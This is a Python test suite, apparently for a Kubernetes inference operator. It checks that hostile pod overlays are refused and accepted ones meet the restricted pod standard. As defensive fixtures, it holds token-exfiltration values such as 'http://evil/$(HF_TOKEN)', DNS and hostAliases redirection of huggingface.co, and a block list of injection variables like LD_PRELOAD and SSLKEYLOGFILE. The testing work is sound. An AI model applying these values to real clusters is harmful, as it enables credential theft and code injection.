"""Overlays: hostile ones are rejected with their path, and others are rendered to restricted pods."""

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from pdinference.api.v1alpha1 import PDInference
from pdinference.api.validation import InvalidResourceError
from pdinference.checks import examine
from pdinference.engine.refused import DEVICE_ENVIRONMENT, REFUSED_ENVIRONMENT
from pdinference.manifests import RenderSettings, render
from pdinference.manifests.pod_rules import Allowance
from pdinference.manifests.pod_rules.environment import ENVIRONMENT_FROM
from pdinference.manifests.pods.pod_security import restricted_problems
from tests.conftest import allowing
from tests.hostile.pod_templates import HOSTILE, LEGITIMATE, Json

Make = Callable[..., PDInference]
TOKEN = {"source": {"huggingFace": {"repository": "a/b", "tokenSecret": {"name": "hub", "key": "token"}}}}

TOKEN_VARIABLES = (
    *("LOCALDOMAIN", "RES_OPTIONS", "HOSTALIASES", "RESOLV_HOST_CONF", "CARES_HOSTS", "GRPC_DNS_RESOLVER"),
    *("SSL_CERT_FILE", "SSL_CERT_DIR", "SSLKEYLOGFILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "OPENSSL_CONF"),
    *("GIT_SSL_NO_VERIFY", "HTTPLIB2_CA_CERTS", "PYTHONHTTPSVERIFY", "HF_HUB_DISABLE_SSL_VERIFY"),
    *("LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "GLIBC_TUNABLES", "GCONV_PATH", "CUDA_INJECTION64_PATH", "BASH_ENV"),
    *("PATH", "PYTHONPATH", "PYTHONHOME", "PYTHONSTARTUP", "PYTHONUSERBASE", "PYTHONWARNINGS", "PYTHONBREAKPOINT"),
)


def problems(document: Json, settings: RenderSettings = RenderSettings()) -> dict[str, str]:  # noqa: B008 - frozen
    return {problem.field: problem.message for problem in examine(document, settings).problems}


def pods(resource: PDInference, settings: RenderSettings = RenderSettings()) -> Iterator[Json]:  # noqa: B008 - frozen
    for manifest in render(resource, settings).objects:
        if "template" in manifest.get("spec", {}):
            yield manifest["spec"]["template"]


@pytest.mark.parametrize("role", ["parameter", "decode", "router"])
@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_hostile_is_refused_with_its_path(document: Callable[..., Json], name: str, role: str) -> None:
    overlay, path = HOSTILE[name]
    settings = RenderSettings(policy=allowing("/data/llama"))
    found = problems(document(**{role: {"podTemplate": overlay}}), settings)
    assert f"spec.{role}.podTemplate.{path}".rstrip(".") in found


@pytest.mark.parametrize("name", LEGITIMATE)
def test_what_is_legitimate_is_accepted_and_confined(document: Callable[..., Json], name: str) -> None:
    role = "router" if name.startswith("router") else "decode"
    made = document(**{role: {"podTemplate": LEGITIMATE[name]}})
    assert problems(made) == {}
    for pod in pods(PDInference.model_validate(made)):
        assert list(restricted_problems(pod)) == []


def test_a_container_of_another_role_has_no_image(document: Callable[..., Json]) -> None:
    found = problems(document(decode={"podTemplate": {"spec": {"containers": [{"name": "router", "env": []}]}}}))
    (field,) = found
    assert field.endswith("containers[router].image")
    assert "correct the name" in found[field]


def test_a_side_car_is_confined_without_saying_so(resource: Make) -> None:
    overlay = {"spec": {"containers": [{"name": "s", "image": "s:1"}], "initContainers": [{"name": "i", "image": "i"}]}}
    *_, pod = (p for p in pods(resource(decode={"podTemplate": overlay})) if len(p["spec"]["containers"]) == 2)
    for container in (pod["spec"]["containers"][1], pod["spec"]["initContainers"][0]):
        assert container["securityContext"] == {
            "allowPrivilegeEscalation": False,
            "capabilities": {"drop": ["ALL"]},
        }


@pytest.mark.parametrize("name", [*REFUSED_ENVIRONMENT, *(name for name in TOKEN_VARIABLES if "_" in name)])
def test_no_config_map_holds_a_variable_that_cannot_be_set(name: str) -> None:
    """Each prefix that leaves a key."""
    for length in range(len(name)):
        source = [{"prefix": name[:length], "configMapRef": {"name": "any"}}]
        assert [problem.field for problem in ENVIRONMENT_FROM(source, "envFrom", Allowance())] == ["envFrom[0].prefix"]


@pytest.mark.parametrize("model", [{}, {"model": TOKEN}], ids=["without token", "with token"])
def test_a_config_map_may_hold_variables_of_an_own_prefix(document: Callable[..., Json], model: Json) -> None:
    source = [{"prefix": "APP_", "configMapRef": {"name": "any"}}]
    containers = [{"name": "vllm", "envFrom": source}, {"name": "s", "image": "s:1", "envFrom": source}]
    assert problems(document(**model, decode={"podTemplate": {"spec": {"containers": containers}}})) == {}


@pytest.mark.parametrize(
    "name",
    [
        *DEVICE_ENVIRONMENT,
        *("NVIDIA_SOMETHING_NEW", "ACME_VISIBLE_DEVICES", "VISIBLE_DEVICES", "DOCKER_RESOURCE_NIC"),
        *("ASCEND_RUNTIME_ANYTHING", "NVIDIA_DRIVER_CAPABILITIES_2"),
    ],
)
def test_no_container_chooses_devices(document: Callable[..., Json], name: str) -> None:
    containers = [{"name": "s", "image": "s:1", "env": [{"name": name, "value": "all"}]}]
    overlay = {"spec": {"containers": containers, "initContainers": [{**containers[0], "name": "i"}]}}
    assert len(problems(document(decode={"podTemplate": overlay}))) == 2
    own = {"spec": {"containers": [{"name": "vllm", "env": [{"name": name, "value": "all"}]}]}}
    assert len(problems(document(decode={"podTemplate": own}))) == 1
    assert problems(document(engine={"env": {name: "all"}})).keys() == {f"spec.engine.env.{name}"}


@pytest.mark.parametrize(
    "name",
    ["NVIDIA_DRIVER_CAPABILITIES", "NVIDIA_REQUIRE_CUDA", "NVIDIA_DISABLE_REQUIRE", "NVIDIA_TF32_OVERRIDE",
     "RAY_EXPERIMENTAL_NOSET_CUDA_VISIBLE_DEVICES", "NCCL_DEBUG"],
)  # fmt: skip
def test_variables_that_choose_no_device_may_be_set(document: Callable[..., Json], name: str) -> None:
    assert problems(document(engine={"env": {name: "1"}})) == {}


def test_a_refusal_names_the_value_that_would_allow_it(document: Callable[..., Json]) -> None:
    for name, value in {
        "nfs": "policy.volumeTypes",
        "secret": "policy.secrets",
        "env-from-secret": "policy.secrets",
        "label-app": "policy.labels",
        "annotation-istio": "policy.annotations",
        "runtime": "policy.runtimeClasses",
        "system-priority": "policy.priorityClasses",
        "control-plane": "policy.tolerations",
        "every-taint": "policy.tolerations",
        "ipc-lock": "policy.capabilities",
        "root": "policy.root",
        "host-path": "allowedHostPaths",
    }.items():
        overlay, path = HOSTILE[name]
        assert value in problems(document(decode={"podTemplate": overlay}))[f"spec.decode.podTemplate.{path}"], name


@pytest.mark.parametrize(
    ("name", "policy"),
    [
        ("nfs", {"volumeTypes": ["nfs"]}),
        ("csi", {"volumeTypes": ["csi"]}),
        ("secret", {"secrets": ["data*"]}),
        ("env-from-secret", {"secrets": ["database"]}),
        ("label-app", {"labels": ["app"]}),
        ("annotation-istio", {"annotations": ["*.istio.io/*"]}),
        ("runtime", {"runtimeClasses": ["*"]}),
        ("system-priority", {"priorityClasses": ["system-node-*"]}),
        ("control-plane", {"tolerations": ["node-role.kubernetes.io/*"]}),
        ("every-taint", {"tolerations": ["*", ""]}),
        ("sys-admin", {"capabilities": ["SYS_ADMIN"]}),
    ],
)
def test_the_installation_can_allow_more(document: Callable[..., Json], name: str, policy: Json) -> None:
    settings = RenderSettings(policy=allowing(**policy))
    made = document(decode={"podTemplate": HOSTILE[name][0]})
    assert problems(made, settings) == {}
    assert list(pods(PDInference.model_validate(made), settings))


ROOT: Json = {"runAsUser": 0, "runAsNonRoot": False}


@pytest.mark.parametrize(
    "made", [{"securityContext": ROOT}, {"containers": [{"name": "vllm", "securityContext": ROOT}]}]
)
def test_p_and_d_may_be_root_if_the_installation_says_so_and_the_router_not(
    document: Callable[..., Json], made: Json
) -> None:
    may = RenderSettings(policy=allowing(root=True))
    spread: Json = {"podTemplate": {"spec": made}, "parallelism": {"data": 2, "nodes": 2, "expert": True}}
    for role in ("parameter", "decode"):
        assert problems(document(**{role: spread}))
        assert problems(document(**{role: spread}), may) == {}
    assert problems(document(router={"podTemplate": {"spec": {"securityContext": ROOT}}}), may)


def test_a_root_that_the_kubelet_would_not_start_is_refused(document: Callable[..., Json]) -> None:
    made = document(decode={"podTemplate": {"spec": {"securityContext": {"runAsUser": 0}}}})
    (message,) = set(problems(made, RenderSettings(policy=allowing(root=True))).values())
    assert "The kubelet starts no root with it. Write false." in message


@pytest.mark.parametrize("name", ["system-priority", "control-plane", "every-taint"])
def test_a_star_alone_does_not_allow_what_is_reserved(document: Callable[..., Json], name: str) -> None:
    everything = RenderSettings(policy=allowing(tolerations=["*"], priorityClasses=["*"]))
    assert problems(document(decode={"podTemplate": HOSTILE[name][0]}), everything)


@pytest.mark.parametrize("volume", ["hostPath", "gitRepo"])
def test_no_policy_allows_folders_of_the_node_in_overlays(volume: str) -> None:
    with pytest.raises(ValueError, match=r"volumeTypes"):
        allowing(volumeTypes=[volume])


@pytest.mark.parametrize(
    ("spec", "path"),
    [
        (
            {"containers": [{"name": "vllm", "env": [{"name": "HF_ENDPOINT", "value": "https://evil"}]}]},
            "env[HF_ENDPOINT]",
        ),
        (
            {
                "containers": [
                    {
                        "name": "vllm",
                        "env": [{"name": "https_proxy", "valueFrom": {"configMapKeyRef": {"name": "c", "key": "k"}}}],
                    }
                ]
            },
            "env[https_proxy]",
        ),
        ({"hostAliases": [{"ip": "10.6.6.6", "hostnames": ["huggingface.co"]}]}, "hostAliases[10.6.6.6]"),
        (
            {"containers": [{"name": "vllm", "env": [{"name": "OTEL_URL", "value": "http://evil/$(HF_TOKEN)"}]}]},
            "env[OTEL_URL]",
        ),
        ({"dnsConfig": {"nameservers": ["10.6.6.6"]}}, "dnsConfig.nameservers"),
        ({"dnsConfig": {"searches": ["example.org"]}}, "dnsConfig.searches"),
    ],
)
def test_an_overlay_leads_no_token_elsewhere(document: Callable[..., Json], spec: Json, path: str) -> None:
    overlay = {"decode": {"podTemplate": {"spec": spec}}}
    assert [field for field in problems(document(model=TOKEN, **overlay)) if field.endswith(path)]
    assert not [field for field in problems(document(**overlay)) if field.endswith(path)]


@pytest.mark.parametrize("name", TOKEN_VARIABLES)
@pytest.mark.parametrize("spelled", [str.upper, str.lower])
def test_beside_a_token_no_variable_changes_who_answers_or_what_runs(
    document: Callable[..., Json], name: str, spelled: Callable[[str], str]
) -> None:
    variable = spelled(name)
    overlay = {"podTemplate": {"spec": {"containers": [{"name": "vllm", "env": [{"name": variable, "value": "x"}]}]}}}
    assert problems(document(model=TOKEN, decode=overlay)).keys() == {
        f"spec.decode.podTemplate.spec.containers[vllm].env[{variable}]"
    }
    for part in ("engine", "parameter", "decode"):
        found = problems(document(model=TOKEN, **{part: {"env": {variable: "x"}}}))
        assert f"spec.{part}.env.{variable}" in found
        assert "tokenSecret" in found[f"spec.{part}.env.{variable}"] or variable.upper().endswith("_PROXY")
    assert problems(document(decode=overlay)) == {}, "without a token each has its uses"


@pytest.mark.parametrize(
    "name",
    ["NO_PROXY", "no_proxy", "PYTHONUNBUFFERED", "PYTHONHASHSEED", "NCCL_DEBUG", "HF_HUB_DOWNLOAD_TIMEOUT",
     "OMP_NUM_THREADS", "PYTORCH_CUDA_ALLOC_CONF", "VLLM_USE_DEEP_GEMM", "UCX_LOG_LEVEL", "LDAP", "PATHS"],
)  # fmt: skip
def test_beside_a_token_other_variables_may_be_set(document: Callable[..., Json], name: str) -> None:
    assert problems(document(model=TOKEN, engine={"env": {name: "x"}})) == {}


@pytest.mark.parametrize(
    "path",
    ["/etc/hosts", "/etc", "/", "//etc//ssl", "/opt/../etc/resolv.conf", "/usr/local/lib/python3.12", "/lib/x", "etc"],
)
def test_beside_a_token_no_volume_hides_the_system_of_the_image(document: Callable[..., Json], path: str) -> None:
    mount = {"name": "vllm", "volumeMounts": [{"name": "tmp", "mountPath": path}]}
    overlay = {"podTemplate": {"spec": {"containers": [mount]}}}
    found = problems(document(model=TOKEN, decode=overlay))
    assert [field for field in found if field.endswith(".mountPath")]
    assert problems(document(decode=overlay)) == {}
    elsewhere = {
        "podTemplate": {"spec": {"containers": [{**mount, "volumeMounts": [{"name": "tmp", "mountPath": "/usrs"}]}]}}
    }
    assert problems(document(model=TOKEN, decode=elsewhere)) == {}


_PARTS = st.sampled_from([*(overlay for overlay, _ in HOSTILE.values()), *LEGITIMATE.values()])
_CONTEXTS = st.fixed_dictionaries(
    {},
    optional={
        "privileged": st.booleans(),
        "allowPrivilegeEscalation": st.booleans(),
        "runAsNonRoot": st.booleans(),
        "runAsUser": st.sampled_from([0, 1, 1000, -1, True, "0"]),
        "runAsGroup": st.sampled_from([0, 5]),
        "capabilities": st.fixed_dictionaries(
            {},
            optional={
                "drop": st.sampled_from([[], ["ALL"], ["all"], ["NET_RAW"], "ALL", None]),
                "add": st.lists(st.sampled_from(["NET_BIND_SERVICE", "IPC_LOCK", "SYS_PTRACE"]), max_size=2),
            },
        ),
        "seccompProfile": st.sampled_from([{"type": "RuntimeDefault"}, {"type": "Unconfined"}, {}, "RuntimeDefault"]),
        "procMount": st.sampled_from(["Default", "Unmasked"]),
    },
)
_CONTAINERS = st.lists(
    st.fixed_dictionaries(
        {"name": st.sampled_from(["vllm", "router", "pdinference-model", "s", "t"]), "securityContext": _CONTEXTS},
        optional={"image": st.just("s:1"), "ports": st.sampled_from([[], [{"containerPort": 1, "hostPort": 0}]])},
    ),
    max_size=3,
)
_OVERLAYS = st.builds(
    lambda parts, spec: _all([*parts, {"spec": spec}]),
    st.lists(_PARTS, max_size=3),
    st.fixed_dictionaries(
        {}, optional={"containers": _CONTAINERS, "initContainers": _CONTAINERS, "securityContext": _CONTEXTS}
    ),
)


def _all(parts: list[Any]) -> Json:
    result: Json = {}
    for part in parts:
        for name, member in part.items():
            known = result.get(name)
            result[name] = {**known, **member} if isinstance(known, dict) and isinstance(member, dict) else member
    return result


@given(_OVERLAYS, st.sampled_from(["parameter", "decode", "router"]))
def test_whatever_is_accepted_meets_the_restricted_standard(overlay: Json, role: str) -> None:
    document = {
        "apiVersion": "pdinference.io/v1alpha1",
        "kind": "PDInference",
        "metadata": {"name": "x"},
        "spec": {"model": {"source": {"path": "/m"}}, role: {"podTemplate": overlay}},
    }
    settings = RenderSettings()
    resource = examine(document, settings).resource
    if resource is None:
        with pytest.raises((InvalidResourceError, ValidationError)):  # the latter for what is not JSON
            render(PDInference.model_validate(document), settings)
        return
    for pod in pods(resource, settings):
        assert list(restricted_problems(pod)) == []
